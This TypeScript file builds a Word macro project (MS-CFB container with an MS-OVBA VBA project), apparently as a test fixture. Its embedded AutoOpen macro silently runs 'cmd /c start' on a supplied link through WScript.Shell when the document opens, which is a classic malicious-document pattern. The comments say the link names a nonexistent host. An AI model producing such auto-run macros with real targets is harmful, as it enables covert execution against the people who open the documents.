/**
 * A Word macro project: a compound file (MS-CFB) with a VBA project in it (MS-OVBA). The macro
 * names a host that cannot exist and would do nothing else. Streams are padded beyond the size
 * below which MS-CFB would keep them in a second, smaller kind of sector.
 */
import { Buffer } from 'node:buffer';

const SECTOR_BYTES = 512;
/** One chunk that is carried as it is (MS-OVBA, 2.4.1.1.5): then nothing need be compressed. */
const CHUNK_BYTES = 4096;
const FREE = 0xff_ff_ff_ff;
const END_OF_CHAIN = 0xff_ff_ff_fe;
const FAT_SECTOR = 0xff_ff_ff_fd;

interface Stream {
  readonly name: string;
  readonly bytes: Uint8Array;
}

export function printMacroProject(link: string): Uint8Array {
  const code = [
    'Attribute VB_Name = "ThisDocument"',
    'Sub AutoOpen()',
    '  Dim shell As Object',
    '  Set shell = CreateObject("WScript.Shell")',
    `  shell.Run "cmd /c start ${link}", 0`,
    'End Sub',
    '',
  ].join('\r\n');
  const project = [
    'ID="{00000000-0000-0000-0000-000000000000}"',
    'Document=ThisDocument/&H00000000',
    'Name="Project"',
    '',
  ].join('\r\n');
  return printCompoundFile(
    [{ name: 'PROJECT', bytes: Buffer.from(project.padEnd(CHUNK_BYTES), 'latin1') }],
    [
      { name: 'dir', bytes: chunk(Buffer.concat(directoryRecords())) },
      { name: 'ThisDocument', bytes: chunk(Buffer.from(code.padEnd(CHUNK_BYTES), 'latin1')) },
      {
        name: '_VBA_PROJECT',
        bytes: Buffer.from(`\xcc\x61\xff\xff${'\0'.repeat(4092)}`, 'latin1'),
      },
    ],
  );
}

/**
 * MS-OVBA, 2.3.4.2: what the project is and which stream holds its one module, from its start on.
 */
function directoryRecords(): readonly Buffer[] {
  const record = (id: number, bytes: Buffer): Buffer => {
    const head = Buffer.alloc(6);
    head.writeUInt16LE(id, 0);
    head.writeUInt32LE(bytes.length, 2);
    return Buffer.concat([head, bytes]);
  };
  const number = (id: number, size: 2 | 4, value: number): Buffer => {
    const bytes = Buffer.alloc(size);
    bytes.writeUIntLE(value, 0, size);
    return record(id, bytes);
  };
  const empty = Buffer.alloc(0);
  const name = Buffer.from('ThisDocument', 'latin1');
  const wide = Buffer.from('ThisDocument', 'utf16le');
  const version = Buffer.alloc(12);
  version.writeUInt16LE(0x09, 0);
  version.writeUInt32LE(4, 2);
  version.writeUInt32LE(1, 6);
  return [
    number(0x01, 4, 1),
    number(0x02, 4, 0x409),
    number(0x14, 4, 0x409),
    number(0x03, 2, 1252),
    record(0x04, Buffer.from('Project', 'latin1')),
    record(0x05, empty),
    record(0x40, empty),
    record(0x06, empty),
    record(0x3d, empty),
    number(0x07, 4, 0),
    number(0x08, 4, 0),
    version,
    record(0x0c, empty),
    record(0x3c, empty),
    number(0x0f, 2, 1),
    number(0x13, 2, 0xffff),
    record(0x19, name),
    record(0x47, wide),
    record(0x1a, name),
    record(0x32, wide),
    record(0x1c, empty),
    record(0x48, empty),
    number(0x31, 4, 0),
    number(0x1e, 4, 0),
    number(0x2c, 2, 0xffff),
    record(0x22, empty),
    record(0x2b, empty),
    record(0x10, empty),
  ];
}

function chunk(bytes: Uint8Array): Uint8Array {
  const whole = Buffer.alloc(CHUNK_BYTES);
  whole.set(bytes);
  return Buffer.concat([Buffer.from([0x01, 0xff, 0x3f]), whole]);
}

/** `top` lies in the root, `inner` in the storage `VBA`. */
function printCompoundFile(top: readonly Stream[], inner: readonly Stream[]): Uint8Array {
  const streams = [...top, ...inner];
  const sectors: Buffer[] = [];
  const fat: number[] = [];
  const place = (bytes: Uint8Array): number => {
    const start = sectors.length;
    const count = Math.ceil(bytes.length / SECTOR_BYTES);
    const padded = Buffer.alloc(count * SECTOR_BYTES);
    padded.set(bytes);
    for (let at = 0; at < count; at += 1) {
      sectors.push(padded.subarray(at * SECTOR_BYTES, (at + 1) * SECTOR_BYTES));
      fat.push(at === count - 1 ? END_OF_CHAIN : start + at + 1);
    }
    return start;
  };
  const starts = streams.map(({ bytes }) => place(bytes));
  const directory = place(directoryEntries(top, inner, starts));
  const table = Buffer.alloc(SECTOR_BYTES, 0xff);
  const fatSector = sectors.length;
  fat.push(FAT_SECTOR);
  for (const [at, next] of fat.entries()) table.writeUInt32LE(next, at * 4);
  const header = Buffer.alloc(SECTOR_BYTES, 0xff);
  header.fill(0, 0, 76);
  header.set(Buffer.from('d0cf11e0a1b11ae1', 'hex'));
  for (const [at, value] of [
    [24, 0x3e],
    [26, 3],
    [28, 0xfffe],
    [30, 9],
    [32, 6],
  ] as const)
    header.writeUInt16LE(value, at);
  for (const [at, value] of [
    [44, 1],
    [48, directory],
    [56, CHUNK_BYTES],
    [60, END_OF_CHAIN],
    [68, END_OF_CHAIN],
    [76, fatSector],
  ] as const)
    header.writeUInt32LE(value, at);
  return Buffer.concat([header, ...sectors, table]);
}

/**
 * Root, `VBA`, then the streams. Siblings form a chain to the right in the order MS-CFB asks for.
 */
function directoryEntries(
  top: readonly Stream[],
  inner: readonly Stream[],
  starts: readonly number[],
): Uint8Array {
  const root = [{ name: 'VBA', id: 1 }, ...top.map(({ name }, at) => ({ name, id: 2 + at }))];
  const vba = inner.map(({ name }, at) => ({ name, id: 2 + top.length + at }));
  const chains = [root, vba].map((chain) =>
    chain.toSorted((a, b) => a.name.length - b.name.length || (a.name < b.name ? -1 : 1)),
  );
  const next = new Map<number, number>();
  for (const chain of chains)
    for (const [at, { id }] of chain.entries()) next.set(id, chain[at + 1]?.id ?? FREE);
  const [rootFirst, vbaFirst] = chains.map((chain) => chain[0]?.id ?? FREE);
  const entry = (
    name: string,
    kind: 1 | 2 | 5,
    { id, child, start, bytes }: { id: number; child: number; start: number; bytes: number },
  ): Buffer => {
    const row = Buffer.alloc(128);
    row.write(name, 0, 'utf16le');
    row.writeUInt16LE(name.length * 2 + 2, 64);
    row.writeUInt8(kind, 66);
    row.writeUInt8(1, 67);
    row.writeUInt32LE(FREE, 68);
    row.writeUInt32LE(next.get(id) ?? FREE, 72);
    row.writeUInt32LE(child, 76);
    row.writeUInt32LE(start, 116);
    row.writeUInt32LE(bytes, 120);
    return row;
  };
  const storage = (id: number, child: number | undefined, start: number) =>
    ({ id, child: child ?? FREE, start, bytes: 0 }) as const;
  return Buffer.concat([
    entry('Root Entry', 5, storage(0, rootFirst, END_OF_CHAIN)),
    entry('VBA', 1, storage(1, vbaFirst, 0)),
    ...[...top, ...inner].map(({ name, bytes }, at) =>
      entry(name, 2, { id: 2 + at, child: FREE, start: starts[at] ?? 0, bytes: bytes.length }),
    ),
  ]);
}
